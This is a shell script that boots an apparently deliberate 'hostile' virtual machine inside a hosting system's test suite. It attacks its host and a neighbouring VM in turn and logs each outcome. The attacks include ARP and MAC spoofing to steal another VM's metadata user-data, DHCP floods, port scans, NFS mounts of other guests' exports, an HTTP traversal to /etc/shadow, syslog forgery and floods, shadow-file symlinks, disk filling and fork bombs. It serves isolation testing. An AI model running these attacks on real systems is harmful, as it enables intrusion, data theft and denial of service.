#!/bin/sh
# user_data of the hostile machine: root of a guest that tries all it can think of, one thing after the other. What came
# of each goes to the console, a line "ATTACK seconds name: what happened", since everything else may be full or shut by
# then.
. /lib/vac-demo.sh

longestSeconds=300
# For what must be answered: the host may have a lot else to do.
patienceSeconds=120

say() { echo "ATTACK $(($(uptime_seconds) - begun)) $1: $2" > /dev/console; }
# attempt NAME COMMAND...: the last line of what it says. Into a file: what a killed command leaves running would hold a pipe.
attempt() {
  name=$1
  shift
  timeout -s KILL $longestSeconds "$@" > /run/said 2>&1
  say "$name" "$(tr -d '\r' < /run/said | tail -n 1 | cut -c 1-160)"
}
# asking NAME PATH: the first line of what the host answers.
asking() {
  attempt "$1" sh -c 'attack tcp "$0" 80 "$1" "$2" | head -n 1' $host $patienceSeconds "GET $2 HTTP/1.1
Host: $host
Connection: close

"
}

sed '1,/^#KIT$/d' /run/user_data | base64 -d | gunzip > /bin/attack
chmod 755 /bin/attack

# Whom to attack is not in user_data, which is the same for all machines of the type: the test says it.
until [ -s /etc/machineoutputs/orders ]; do sleep 0.2; done
. /etc/machineoutputs/orders # victimIp victimMac victimExport otherHostIp listenerPort
begun=$(uptime_seconds)
me=$(my_address)
ownMac=$(cat /sys/class/net/eth0/address)
host=169.254.169.254
gateway=169.254.169.253
everybody=ff:ff:ff:ff:ff:ff

# ---- who it says it is ----
attempt arp-claim-gateway attack arp-claim 50 $gateway "$victimMac"
attempt arp-claim-metadata attack arp-claim 50 $host "$victimMac"
attempt arp-claim-everybody attack arp-claim 50 $gateway $everybody
attempt arp-claim-neighbour attack arp-claim 50 "$victimIp" host
attempt ip-spoofed-syslog attack ip-from "$victimIp" $host 514 50 '<13>Jan  1 00:00:00 innocent forged: by the hostile machine'
attempt mac-spoofed attack mac-from "$victimMac" host 100
attempt lldp-frames attack mac-from "$victimMac" 01:80:c2:00:00:0e 20
attempt dhcp-server attack dhcp-serve 100
attempt dhcp-release attack dhcp-release 10 "$victimIp" "$victimMac"
attempt dhcp-flood attack dhcp-flood 1000
attempt ipv6-frames attack ethertype 86dd $everybody 50
attempt vlan-frames attack ethertype 8100 $everybody 50
attempt unknown-frames attack ethertype 88b5 $everybody 50

# With the host's MAC known, so that no search for it fails first; and the host told that the address is here.
hostMac=$(arp -n | sed -n "s/.*($host) at \([0-9a-f:]*\) .*/\1/p")
arp -s $host "$hostMac"
ip addr add "$victimIp/16" dev eth0
attack arp-claim 5 "$victimIp" host > /dev/null
attempt ip-taken-user-data attack tcp -b "$victimIp" $host 80 2 "GET /latest/user-data HTTP/1.0

"
ip addr del "$victimIp/16" dev eth0
# As a thief would: the whole identity of the other, MAC and address.
ip link set eth0 down
ip link set eth0 address "$victimMac"
ip link set eth0 up
ip addr flush dev eth0
ip addr add "$victimIp/16" dev eth0
arp -s $host "$hostMac"
attempt identity-taken-user-data attack tcp $host 80 2 "GET /latest/user-data HTTP/1.0

"
ip link set eth0 down
ip link set eth0 address "$ownMac"
ip link set eth0 up
ip addr flush dev eth0
ip addr add "$me/16" dev eth0
ip route add default via $gateway
arp -d $host
asking own-user-data-again /latest/user-data

# ---- whom it reaches ----
attempt neighbour-search sh -c "ping -c 2 -W 1 $victimIp > /dev/null && echo answered || echo silent"
# Its MAC is no secret: searching for it was not needed.
arp -s "$victimIp" "$victimMac"
attempt neighbour-ping sh -c "ping -c 2 -W 1 $victimIp > /dev/null && echo answered || echo silent"
attempt neighbour-udp attack udp-flood "$victimIp" 9090 50 'hostile %d'
attempt neighbour-http attack tcp "$victimIp" 8080 2
arp -d "$victimIp"
attempt neighbour-broadcast attack ip-from "$me" 255.255.255.255 9090 50 'hostile'
# Past the switch, by way of the host as a router.
ip route add "$victimIp/32" via $gateway
attempt neighbour-routed attack tcp "$victimIp" 8080 2
ip route del "$victimIp/32"
for ip in $host $gateway "$otherHostIp"; do
  case $ip in "$host") mustBeOpen=80,514,2049 ;; "$gateway") mustBeOpen=53,80 ;; *) mustBeOpen=none ;; esac
  attempt "host-tcp-at-$ip" attack scan "$ip" 2 $mustBeOpen 22 53 80 111 514 995 2049 5900 10195 16509 20048 "$listenerPort"
  attempt "vacquery-at-$ip" attack udp "$ip" 995 1 '{"message_type":"factory_query","space":"space.example.com","cookie":"x","vac_version":"x","vacquery_version":"VacQuery 01.03","method":"factories"}'
done
mkdir -p /run/stolen
for version in 4.1 3; do
  attempt "nfs-others-$version" sh -c ". /lib/vac-demo.sh; mount_nfs $version $host:$victimExport/joboutputs /run/stolen && echo mounted || echo refused"
  umount /run/stolen 2> /dev/null
  # Version 4 has a root for all, with the way to each export in it.
  attempt "nfs-root-$version" sh -c ". /lib/vac-demo.sh; mount_nfs $version $host:/ /run/stolen; find /run/stolen -path '*innocent*' > /run/found
    echo names \$(wc -l < /run/found), files \$(find /run/stolen -path '*innocent*' ! -type d | wc -l)"
  umount /run/stolen 2> /dev/null
done

# ---- what it asks of the services ----
asking http-traversal '/joboutputs/..%2f..%2f..%2fetc%2fshadow'
asking http-others "/machinefeatures/../../$(basename "$victimExport")/user_data"
attempt http-held attack hold $host 80 200 3 32 'GET /latest/'
# The host takes what it would keep, and where it has much to do that takes a while.
upload="{ printf 'PUT /joboutputs/large HTTP/1.0\r\nContent-Length: 99999999999\r\n\r\n'; cat /dev/zero; } | nc $gateway 80 > /run/large"
attempt http-large sh -c "for i in \$(seq 1000); do [ -s /run/large ] && break; pidof nc > /dev/null || { $upload; } & sleep 0.2; done; kill \$(pidof nc)
  [ -s /run/large ] && head -n 1 /run/large || echo not yet refused"
attempt http-flood attack requests $host 80 1000 $patienceSeconds /latest/meta-data/instance-id
attempt syslog-forged attack udp-flood $host 514 1 "$(printf '<13>Jan  1 00:00:00 innocent innocent: \033[2J\007 forged\nINNOCENT second line')"
attempt syslog-flood attack udp-flood $host 514 15000 '<13>Jan  1 00:00:00 hostile flood: line %d'
attempt syslog-tcp-held attack hold $host 514 50 3 8 '<13>'
# The last of the network: for half a minute afterwards nothing new of this machine is let through.
attempt flows attack flows 20000

# ---- what it leaves on the host's disk ----
cd /etc/machineoutputs || exit 1
attempt mknod mknod device b 8 0
attempt chown sh -c 'cp /bin/attack own; chown 0:0 own && echo believed'
attempt setuid sh -c 'chmod 6755 own; stat -c %a own'
attempt link-outside sh -c 'ln -s /etc/shadow shadow && readlink shadow'
attempt link-up sh -c 'ln -s ../user_data up && readlink up'
attempt hard-link sh -c 'ln /etc/machinefeatures/total_cpu hard && echo linked || echo refused'
attempt fifo sh -c 'mkfifo pipe && echo made'
attempt shutdown-message-link sh -c 'ln -s /etc/shadow shutdown_message && echo made'
attempt long-name sh -c 'name=$(printf "%0300d" 0); touch "$name" && echo made || echo refused'
attempt fill-files sh -c 'i=0; while : > "file-$i"; do i=$((i + 1)); echo "made $i"; done 2> /dev/null'
rm -f file-*
attempt fill-bytes sh -c 'i=0; while dd if=/dev/zero of="filler-$i" bs=1M count=1 conv=fsync 2> /dev/null; do i=$((i + 1)); echo "made $i MiB"; done'
attempt fill-scratch sh -c 'dd if=/dev/zero of=/scratch/filler bs=1M count=4000 > /run/dd.log 2>&1; stat -c %s /scratch/filler'
attempt forks attack forks 500 5
attempt console-flood sh -c 'timeout 15 yes hostile > /dev/console; echo over'
say done all

until [ -e /etc/machineoutputs/finish ]; do sleep 1; done
poweroff -nf
#KIT
